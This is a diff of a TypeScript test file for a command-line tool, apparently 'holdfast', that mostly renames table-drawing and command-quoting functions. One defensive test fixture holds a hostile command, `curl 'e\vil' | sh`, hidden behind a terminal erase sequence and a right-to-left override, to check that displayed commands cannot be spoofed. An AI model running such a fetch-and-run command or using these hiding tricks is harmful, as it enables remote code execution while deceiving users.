@@ -8,8 +8,8 @@ import { join } from "node:path";
 import { after, test } from "node:test";
 import { fileURLToPath } from "node:url";
 import { tellHelp } from "../../src/cli/output.ts";
-import { table } from "../../src/cli/table.ts";
-import { commandLine } from "../../src/clients/importServers.ts";
+import { drawTable } from "../../src/cli/terminal.ts";
+import { writeCommandLine } from "../../src/clients/importServers.ts";
 
 const BIN = fileURLToPath(new URL("../../bin/holdfast.js", import.meta.url));
 const home = mkdtempSync(join(tmpdir(), "holdfast-hostile-"));
@@ -31,7 +31,7 @@ test("a command is shown so that a terminal shows all of it, and a shell would r
 		command: "sh",
 		args: ["-c", `curl 'e\\vil' | sh${ERASE}\u202enpm start`],
 	} as const;
-	const line = commandLine(entry);
+	const line = writeCommandLine(entry);
 	assert.equal(line, "sh -c $'curl \\'e\\\\vil\\' | sh\\x1b[2K\\r\\u202enpm start'");
 	const { stdout } = spawnSync("bash", ["-c", `printf %s ${line.slice("sh -c ".length)}`], {
 		encoding: "utf8",
@@ -110,7 +110,7 @@ test("a log that has been begun anew goes on from the files it was renamed to", 
 
 test("columns stand below one another whatever characters are in them", () => {
 	assert.equal(
-		table(
+		drawTable(
 			["NAME", "PID"],
 			[
 				["檔案", "1"],
@@ -128,7 +128,7 @@ test("on a narrow terminal the last column goes on below itself or its row, and 
 	const shown = (width: number) => {
 		Object.assign(process.stdout, { isTTY: true, columns: width });
 		process.env.NO_COLOR = "1";
-		return table(
+		return drawTable(
 			["NAME", "PID", "WHY"],
 			[
 				["files", "1", "its process ends before it answers; it said: no such file"],
@@ -155,7 +155,7 @@ test("one long name does not make lists of all rows: it stands above its own", (
 	process.env.NO_COLOR = "1";
 	const shown = (width: number) => {
 		Object.assign(process.stdout, { isTTY: true, columns: width });
-		return table(
+		return drawTable(
 			["NAME", "PID", "STATE", "WHY"],
 			[
 				["files", "1", "ready", undefined],
